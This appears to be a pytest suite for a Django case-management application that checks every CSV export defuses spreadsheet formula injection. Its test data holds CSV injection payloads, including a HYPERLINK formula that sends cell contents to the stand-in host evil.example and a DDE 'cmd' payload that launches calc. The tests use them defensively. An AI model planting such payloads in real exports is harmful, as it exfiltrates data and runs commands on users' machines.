"""Every CSV export opens in a spreadsheet as data: cells that start like a formula are neutralised.

Formula text is fed in where users and uploaded files put text (party and account names, references,
firearm markings, rejected import values) and every CSV export endpoint is read back. The list of
endpoints is checked against the code: a new `text/csv` response, or a `csv.writer` outside
cases/csv_safe.py, fails this file until it is covered here."""
import csv
import io
import re
from collections import Counter
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from cases import csv_safe

ROOT = Path(__file__).resolve().parents[1]
APPS = ("cases", "seizures", "finance", "config")
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")

# Every CSV response of the code: (module that answers it, URL name, what to request).
ENDPOINTS = [
    ("finance/views.py", "finance:import-errors"),
    ("finance/analysis/views.py", "analysis:run-export"),
    ("seizures/views.py", "seizures:tracing-export"),
    ("seizures/views.py", "seizures:import-template"),
    ("seizures/views.py", "seizures-global:figures-csv"),
    ("seizures/api/views.py", "tracing-request-record"),
]


def _sources():
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path.relative_to(ROOT).as_posix(), path.read_text(encoding="utf-8")


def test_every_csv_response_of_the_code_is_in_the_list():
    found = Counter()
    for name, text in _sources():
        found[name] += len(re.findall(r"""content_type\s*=\s*["']text/csv""", text))
    assert +found == Counter(module for module, _name in ENDPOINTS)


def test_no_csv_is_written_past_the_safe_writer():
    offenders = [name for name, text in _sources()
                 if name != "cases/csv_safe.py" and re.search(r"\bcsv\.(writer|DictWriter)\s*\(", text)]
    assert offenders == []


def test_the_cell_rule():
    from decimal import Decimal

    for payload in PAYLOADS:
        assert csv_safe.cell(payload) == "'" + payload
    assert csv_safe.cell(Decimal("-12.50")) == Decimal("-12.50") and csv_safe.cell(-3) == -3
    assert csv_safe.cell("Zastava M70") == "Zastava M70" and csv_safe.cell(None) == ""


def _cells(response):
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return text, [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _assert_safe(response, must_contain=()):
    text, cells = _cells(response)
    unsafe = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(c)]
    assert unsafe == [], f"cells a spreadsheet would run: {unsafe}"
    for payload in must_contain:
        assert "'" + payload in cells or any(c.startswith("'" + payload) for c in cells), (payload, cells)
    return cells


@pytest.fixture
def formula_world(world):
    """Records whose text fields hold formulas, and the URL of every CSV export that shows them."""
    from finance import services as finance_services
    from finance.analysis import services as analysis_services
    from finance.models import Transaction
    from seizures import services as seizure_services
    from tests.analysis.conftest import LedgerFactory

    analyst, inv = world.users["analyst"], world.users["investigator"]
    ref = world.case.reference
    urls = {}

    # A bank file whose rejected values are formulas: the import error report repeats them.
    rows = ["Date,Amount,Currency,Reference"] + [f"{_csv_cell(p)},{_csv_cell(p)},{_csv_cell(p)},x" for p in PAYLOADS]
    imp = finance_services.import_start(
        case=world.case, by=analyst, upload=SimpleUploadedFile("formulas.csv", ("\n".join(rows) + "\n").encode()),
        confirm=True, mapping={"booked_at": "Date", "amount": "Amount", "currency": "Currency", "reference": "Reference"},
        options={"date_format": "%Y-%m-%d"}, run_inline=True)
    with pytest.raises(finance_services.ImportRejected):
        finance_services.import_run(imp=imp, progress=lambda *a, **k: None)
    urls["finance:import-errors"] = (analyst, reverse("finance:import-errors", kwargs={"reference": ref, "pk": imp.pk}))

    # A trace over accounts and parties named like formulas.
    ledger = LedgerFactory(world.case, analyst)
    ledger.account(PAYLOADS[0], holder=PAYLOADS[3])
    ledger.tx(PAYLOADS[0], "@SUM(B1)", 9500, day=1)
    tx = ledger.tx("@SUM(B1)", "+385 1 2345", 9000, day=2, external_id="-2+3")
    Transaction.objects.filter(pk=tx.pk).update(reference='=HYPERLINK("http://evil.example")')
    trace = analysis_services.analysis_start(case=world.case, by=analyst, kind="trace",
                                             params={"seeds": [f"account:{ledger.accounts[PAYLOADS[0]].pk}"]})
    analysis_services.analysis_execute(run_id=trace.pk, progress=lambda *a, **k: None)
    trace.refresh_from_db()
    assert trace.status == "succeeded", trace.error
    urls["analysis:run-export"] = (analyst, reverse("analysis:run-export",
                                                    kwargs={"reference": ref, "pk": trace.pk, "fmt": "csv"}))

    # A tracing request for a firearm whose markings read like formulas.
    seizure = seizure_services.seizure_record(
        case=world.case, by=inv, reference="SZ-F", country="HR", context="border_crossing", region="=cmd|' /C calc'!A0",
        place="@SUM(A1)", legal_basis="illicit_possession", occurred_at=timezone.now() - timedelta(days=2))
    firearm = seizure_services.firearm_record(
        seizure=seizure, by=inv, weapon_type="pistol", make=PAYLOADS[0], model="+1", calibre="-2+3",
        serial_as_read="A-1", other_markings="@SUM(A1)", deconflict=False)
    assert firearm.make == PAYLOADS[0]
    tracing = seizure_services.tracing_request_create(case=world.case, by=inv, firearms=[firearm], destination="iarms")
    seizure_services.tracing_request_send(request=tracing, by=inv)
    urls["seizures:tracing-export"] = (inv, reverse("seizures:tracing-export",
                                                    kwargs={"reference": ref, "pk": tracing.pk, "fmt": "csv"}))
    urls["tracing-request-record"] = (inv, reverse("tracing-request-record", kwargs={"pk": tracing.pk}) + "?as=csv")
    urls["seizures:import-template"] = (inv, reverse("seizures:import-template", kwargs={"reference": ref}))
    urls["seizures-global:figures-csv"] = (inv, reverse("seizures-global:figures-csv"))
    return urls


def _csv_cell(text):
    return '"' + text.replace('"', '""') + '"'


# What each export must show, escaped (proves the formula text reached the file).
SHOWN = {
    "finance:import-errors": PAYLOADS[:4],  # the parser strips the tab and CR of the others
    "analysis:run-export": [PAYLOADS[0], "@SUM(B1)", "+385 1 2345", "-2+3", '=HYPERLINK("http://evil.example")'],
    "seizures:tracing-export": [PAYLOADS[0], "+1", "-2+3", "@SUM(A1)"],
    "tracing-request-record": [PAYLOADS[0], "+1", "-2+3", "@SUM(A1)"],
    "seizures:import-template": [],
    "seizures-global:figures-csv": [],
}


def test_every_csv_export_neutralises_formula_cells(formula_world, login):
    assert set(formula_world) == {name for _module, name in ENDPOINTS} == set(SHOWN)
    for name, (user, url) in formula_world.items():
        _assert_safe(login(user).get(url), must_contain=SHOWN[name])
